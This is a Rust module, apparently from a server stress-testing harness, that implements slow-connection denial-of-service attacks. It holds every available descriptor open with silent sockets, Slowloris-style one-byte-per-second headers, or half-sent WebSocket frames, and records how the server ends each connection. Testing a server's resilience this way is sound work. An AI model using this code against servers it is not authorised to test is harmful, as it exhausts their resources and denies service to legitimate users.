use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::Result;
use pipewright_bench_roles::allow_descriptors;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::time::interval;

use super::Attacker;
use crate::raw::{Opcode, Refused, Socket, head};

/// Descriptors reserved for other purposes.
const SPARE: usize = 100;
/// Number of connections that are being opened at a time.
const OPENING: usize = 64;
/// The attack has its full strength with this many.
const SWING: usize = 4_000;
/// Interval at which another byte of a request is sent.
const DRIP: Duration = Duration::from_secs(1);

/// What a connection sends before it falls silent.
#[derive(Clone, Copy)]
pub(super) enum Manner {
    /// Nothing at all.
    Silent,
    /// One byte of a header per second.
    SlowHead,
    /// The whole request, and half a frame.
    HalfFrame,
}

/// Holds as many connections as there are descriptors; a closed one is replaced.
pub(super) async fn run(attacker: Attacker, manner: Manner) -> Result<()> {
    let connections = allow_descriptors()?.saturating_sub(SPARE);
    let opened = Arc::new(AtomicUsize::new(0));
    let opening = Arc::new(Semaphore::new(OPENING));
    for _ in 0..connections {
        let (attacker, opened) = (attacker.clone(), Arc::clone(&opened));
        let opening = Arc::clone(&opening);
        tokio::spawn(async move {
            loop {
                let Ok(permit) = opening.acquire().await else {
                    return;
                };
                let held = connect(&attacker, manner).await;
                drop(permit);
                if opened.fetch_add(1, Ordering::Relaxed) == SWING {
                    attacker.begun();
                }
                let ended = match held {
                    Ok(connection) => {
                        attacker.tally.count("connected");
                        hold(connection).await
                    }
                    Err(refused) => refused.to_string(),
                };
                attacker.tally.count(ended);
            }
        });
    }
    std::future::pending().await
}

enum Connection {
    Silent(TcpStream),
    SlowHead(TcpStream),
    HalfFrame(Socket),
}

async fn connect(attacker: &Attacker, manner: Manner) -> Result<Connection, Refused> {
    match manner {
        Manner::Silent => Ok(Connection::Silent(attacker.host.dial().await?)),
        Manner::SlowHead => Ok(Connection::SlowHead(attacker.host.dial().await?)),
        Manner::HalfFrame => {
            let mut socket = Socket::open(&attacker.host, "/", "").await?;
            let mut half = head(Opcode::Text, true, 60_000);
            half.extend([b' '; 100]);
            socket.sender.write_all(&half).await?;
            Ok(Connection::HalfFrame(socket))
        }
    }
}

/// Waits until the engine ends the connection. Returns how it did.
async fn hold(connection: Connection) -> String {
    match connection {
        Connection::Silent(mut stream) => answer(&mut stream).await,
        Connection::SlowHead(mut stream) => {
            let (mut reader, mut writer) = stream.split();
            let drip = async {
                let mut clock = interval(DRIP);
                let mut head = b"GET / HTTP/1.1\r\nX-Slow: "
                    .iter()
                    .chain(std::iter::repeat(&b'a'));
                loop {
                    clock.tick().await;
                    let byte = head.next().copied().unwrap_or_default();
                    if writer.write_all(&[byte]).await.is_err() {
                        return std::future::pending().await;
                    }
                }
            };
            tokio::select! {
                answered = answer(&mut reader) => answered,
                never = drip => never,
            }
        }
        Connection::HalfFrame(mut socket) => socket.listener.ended().await,
    }
}

/// The status of the engine's response before it closes.
async fn answer(stream: &mut (impl AsyncReadExt + Unpin)) -> String {
    let mut said = [0; 64];
    match stream.read(&mut said).await {
        Ok(read) if read >= 12 => {
            format!("HTTP {}", String::from_utf8_lossy(&said[9..12]))
        }
        _ => "cut off".to_owned(),
    }
}
